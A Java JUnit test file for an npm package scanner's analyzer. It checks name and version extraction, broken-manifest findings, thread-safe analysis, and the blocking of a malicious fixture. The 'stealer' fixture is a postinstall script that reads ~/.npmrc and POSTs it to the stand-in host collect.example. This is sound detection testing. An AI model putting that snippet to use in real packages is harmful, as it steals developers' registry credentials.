package dev.portcullis.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.model.Verdict;
import dev.portcullis.policy.VerdictThresholds;
import dev.portcullis.tarball.TarballContents;
import dev.portcullis.tarball.TarballLimits;
import dev.portcullis.tarball.TarballReader;
import dev.portcullis.testkit.TarballBuilder;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;

/** The public API end to end, through real tarballs and the real extractor: naming, verdicts, threads. */
class PackageAnalyzerTest {
    private static final PackageAnalyzer ANALYZER = PackageAnalyzer.withDefaultRules();

    private static TarballContents read(TarballBuilder builder) throws IOException {
        return TarballReader.read(new ByteArrayInputStream(builder.build()), TarballLimits.defaults());
    }

    private static TarballBuilder stealer(int n) {
        return TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"stealer-" + n + "\",\"version\":\"1.0." + n + "\","
                        + "\"scripts\":{\"postinstall\":\"node index.js\"}}")
                .file("package/index.js", """
                        const fs = require('fs');
                        const os = require('os');
                        const https = require('https');
                        const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
                        https.request({ host: 'collect.example', method: 'POST' }).end(rc);
                        """);
    }

    private static TarballBuilder benign(int n) {
        return TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"benign-" + n + "\",\"version\":\"2.0." + n + "\"}")
                .file("package/index.js", "module.exports = (a, b) => a + b;\n");
    }

    @Test
    void namesAndVersionsComeFromThePackageJsonInside() throws IOException {
        PackageAnalysis analysis = ANALYZER.analyze(PackageInput.of(read(benign(7))));
        assertThat(analysis.name()).isEqualTo("benign-7");
        assertThat(analysis.version()).isEqualTo("2.0.7");
        assertThat(analysis.files()).isEqualTo(2);
        assertThat(analysis.bytes()).isPositive();
        assertThat(analysis.findings()).isEmpty();
        assertThat(analysis.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.ALLOW);
    }

    @Test
    void aBrokenManifestLeavesNameAndVersionEmptyAndIsAFinding() throws IOException {
        PackageInput input = PackageInput.of(read(TarballBuilder.tarball()
                .file("package/package.json", "{\"name\": \"x\", ")
                .file("package/index.js", "module.exports = 1;\n")));
        assertThat(input.name()).isEmpty();
        assertThat(input.version()).isEmpty();
        PackageAnalysis analysis = ANALYZER.analyze(input);
        assertThat(analysis.findings()).extracting(f -> f.rule().id()).containsExactly("content/invalid-manifest");
        assertThat(analysis.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.REVIEW);
    }

    @Test
    void aStealerBlocksWithEvidenceAndItsPackageNamed() throws IOException {
        PackageAnalysis analysis = ANALYZER.analyze(PackageInput.of(read(stealer(1))));
        assertThat(analysis.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.BLOCK);
        var finding = analysis.findings().stream()
                .filter(f -> f.rule().id().equals("content/credential-exfiltration")).findFirst().orElseThrow();
        assertThat(finding.packageName()).isEqualTo("stealer-1");
        assertThat(finding.version()).isEqualTo("1.0.1");
        assertThat(finding.location().file()).isEqualTo("index.js");
        assertThat(finding.location().line()).isEqualTo(4);
        assertThat(finding.evidence()).contains(".npmrc").contains("https.request");
    }

    @Test
    void oneAnalyzerServesManyThreadsWithTheSameResultsAsOne() throws Exception {
        List<PackageInput> inputs = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            inputs.add(PackageInput.of(read(i % 2 == 0 ? stealer(i) : benign(i))));
        }
        List<PackageAnalysis> sequential = inputs.stream().map(ANALYZER::analyze).toList();
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<PackageAnalysis>> futures = new ArrayList<>();
            for (PackageInput input : inputs) {
                futures.add(pool.submit(() -> ANALYZER.analyze(input)));
            }
            for (int i = 0; i < inputs.size(); i++) {
                assertThat(futures.get(i).get()).isEqualTo(sequential.get(i));
            }
        } finally {
            pool.shutdown();
        }
        assertThat(sequential.stream().filter(a -> a.verdict(VerdictThresholds.defaults()) == Verdict.BLOCK))
                .hasSize(20);
    }
}
